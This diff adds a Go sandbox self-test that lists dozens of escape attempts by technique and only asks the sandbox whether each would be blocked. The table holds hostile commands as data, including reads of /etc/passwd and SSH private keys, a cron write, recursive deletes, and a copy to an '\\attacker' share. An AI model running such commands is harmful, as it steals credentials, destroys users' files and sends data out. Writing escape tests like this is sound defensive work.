@@ -0,0 +1,126 @@
+package commands
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+)
+
+// EscapeAttempt is a command that tries to reach outside the sandbox
+type EscapeAttempt struct {
+	Category    string
+	Description string
+	Command     string
+	Allowed     bool // a command that stays inside, which the sandbox must let through
+	needsLink   bool // uses the symlink the test creates
+	windows     bool // judged by Windows path rules
+}
+
+// EscapeResult is how the sandbox treated an escape attempt
+type EscapeResult struct {
+	EscapeAttempt
+	Blocked bool
+	Skipped string // why the attempt could not be tried
+	Reason  string
+}
+
+// escapeLinkName is the symlink in the test directory that points outside it
+const escapeLinkName = "outside-link"
+
+// escapeAttempts are the escapes /sandbox test tries, by technique
+var escapeAttempts = []EscapeAttempt{
+	{Category: "absolute path", Description: "read a system file", Command: "cat /etc/passwd"},
+	{Category: "absolute path", Description: "copy a file out", Command: "cp notes.txt /tmp/exfil.txt"},
+	{Category: "absolute path", Description: "write through a redirection", Command: "echo '* * * * * sh' > /etc/cron.d/job"},
+	{Category: "absolute path", Description: "option value", Command: "tar -czf backup.tgz --directory=/etc ."},
+	{Category: "parent directory", Description: "read up the tree", Command: "cat ../../../etc/passwd"},
+	{Category: "parent directory", Description: "delete a sibling", Command: "rm -rf ../sibling"},
+	{Category: "parent directory", Description: "leave, then delete", Command: "cd .. && rm -rf sibling"},
+	{Category: "parent directory", Description: "through a subdirectory", Command: "cat inside/../../escape.txt"},
+	{Category: "symlink", Description: "read through a link", Command: "cat " + escapeLinkName + "/etc/passwd", needsLink: true},
+	{Category: "symlink", Description: "delete through a link", Command: "rm -rf " + escapeLinkName + "/tmp/victim", needsLink: true},
+	{Category: "symlink", Description: "create a link out", Command: "ln -s /etc etc-link"},
+	{Category: "substitution", Description: "$(..) builds the path", Command: "cat $(echo /etc/passwd)"},
+	{Category: "substitution", Description: "backticks build the path", Command: "cat `printf /etc/passwd`"},
+	{Category: "substitution", Description: "escapes hide the slashes", Command: `cat "$(printf '\057etc\057passwd')"`},
+	{Category: "substitution", Description: "eval a quoted command", Command: "eval 'cat /etc/passwd'"},
+	{Category: "environment", Description: "$HOME", Command: "cat $HOME/.ssh/id_rsa"},
+	{Category: "environment", Description: "${HOME}", Command: "cat ${HOME}/.bash_history"},
+	{Category: "environment", Description: "tilde", Command: "cat ~/.ssh/id_rsa"},
+	{Category: "environment", Description: "bare cd goes home", Command: "cd && rm -rf Documents"},
+	{Category: "environment", Description: "cd to $OLDPWD", Command: "cd $OLDPWD && ls"},
+	{Category: "environment", Description: "variable split path", Command: "P=/et; cat ${P}c/passwd"},
+	{Category: "environment", Description: "env -C changes directory", Command: "env -C /etc cat passwd"},
+	{Category: "Windows paths", Description: "drive path", Command: `type C:\Windows\System32\drivers\etc\hosts`, windows: true},
+	{Category: "Windows paths", Description: "drive path with slashes", Command: "type C:/Windows/win.ini", windows: true},
+	{Category: "Windows paths", Description: "root of the current drive", Command: `del /q \Windows\Temp\x.log`, windows: true},
+	{Category: "Windows paths", Description: "another drive, relative", Command: "copy notes.txt D:notes.txt", windows: true},
+	{Category: "Windows paths", Description: "UNC share", Command: `copy notes.txt \\attacker\share\notes.txt`, windows: true},
+	{Category: "Windows paths", Description: "long path prefix", Command: `type \\?\C:\Windows\win.ini`, windows: true},
+	{Category: "Windows paths", Description: "mixed case", Command: `TYPE c:\WINDOWS\win.ini`, windows: true},
+	{Category: "Windows traversal", Description: "backslash parent", Command: `type ..\..\secrets.txt`, windows: true},
+	{Category: "Windows traversal", Description: "rd /s on a sibling", Command: `rd /s /q ..\sibling`, windows: true},
+	{Category: "Windows traversal", Description: "cd.. without a space", Command: "cd.. && del /s /q *", windows: true},
+	{Category: "Windows traversal", Description: `cd\ to the drive root`, Command: `cd\ && rd /s /q Users`, windows: true},
+	{Category: "Windows traversal", Description: "Remove-Item on the parent", Command: "Remove-Item -Recurse -Force ..", windows: true},
+	{Category: "Windows traversal", Description: "Set-Location then delete", Command: "Set-Location .. ; Remove-Item -Recurse sibling", windows: true},
+	{Category: "Windows environment", Description: "%USERPROFILE%", Command: `type %USERPROFILE%\.ssh\id_rsa`, windows: true},
+	{Category: "Windows environment", Description: "$env:APPDATA", Command: `Get-Content $env:APPDATA\secrets.json`, windows: true},
+	{Category: "Windows environment", Description: "${env:TEMP}", Command: `Remove-Item -Recurse ${env:TEMP}\build`, windows: true},
+	{Category: "Windows environment", Description: "tilde with a backslash", Command: `Get-Content ~\.ssh\id_rsa`, windows: true},
+	{Category: "Windows, staying inside", Description: "del with switches", Command: "del /s /q build", Allowed: true, windows: true},
+	{Category: "Windows, staying inside", Description: "rd with switches", Command: `rd /s /q .\dist`, Allowed: true, windows: true},
+	{Category: "Windows, staying inside", Description: "dir of a subdirectory", Command: `dir /b /s src\cmd`, Allowed: true, windows: true},
+	{Category: "Windows, staying inside", Description: "xcopy inside", Command: `xcopy /e /i src backup\src`, Allowed: true, windows: true},
+	{Category: "Windows, staying inside", Description: "parent then back in", Command: `type src\..\README.md`, Allowed: true, windows: true},
+}
+
+// windowsEscapeDir is the sandbox directory Windows attempts are judged
+// against on other systems; nothing is created there
+const windowsEscapeDir = `C:\Users\helix\project`
+
+// TestEscapes tries every escape attempt against the sandbox's rules in a
+// scratch directory, so symlinks can point out of it for real. Nothing is
+// run; only ValidateCommand is asked.
+func (ds *DirectorySandbox) TestEscapes() ([]EscapeResult, error) {
+	dir, err := os.MkdirTemp("", "helix-sandbox-test-")
+	if err != nil {
+		return nil, err
+	}
+	defer os.RemoveAll(dir)
+	if dir, err = filepath.EvalSymlinks(dir); err != nil {
+		return nil, err
+	}
+	if err := os.Mkdir(filepath.Join(dir, "inside"), 0700); err != nil {
+		return nil, err
+	}
+	linkErr := os.Symlink(string(filepath.Separator), filepath.Join(dir, escapeLinkName))
+
+	mode := ds.mode
+	if mode == SandboxDisabled {
+		mode = SandboxCurrentDir
+	}
+	scratch := &DirectorySandbox{allowedDir: dir, originalDir: dir, mode: mode, paths: ds.paths, project: ds.project, offline: ds.offline, windows: ds.windows}
+	windows := scratch
+	if !ds.windows {
+		windows = &DirectorySandbox{allowedDir: windowsEscapeDir, originalDir: windowsEscapeDir, mode: mode, offline: ds.offline, windows: true}
+	}
+
+	results := make([]EscapeResult, len(escapeAttempts))
+	for i, attempt := range escapeAttempts {
+		results[i].EscapeAttempt = attempt
+		switch {
+		case attempt.needsLink && linkErr != nil:
+			results[i].Skipped = fmt.Sprintf("cannot create a symlink: %v", linkErr)
+			continue
+		}
+		sandbox := scratch
+		if attempt.windows {
+			sandbox = windows
+		}
+		if violation := sandbox.Check(attempt.Command); violation != nil {
+			results[i].Blocked, results[i].Reason = true, violation.Reason
+		}
+	}
+	return results, nil
+}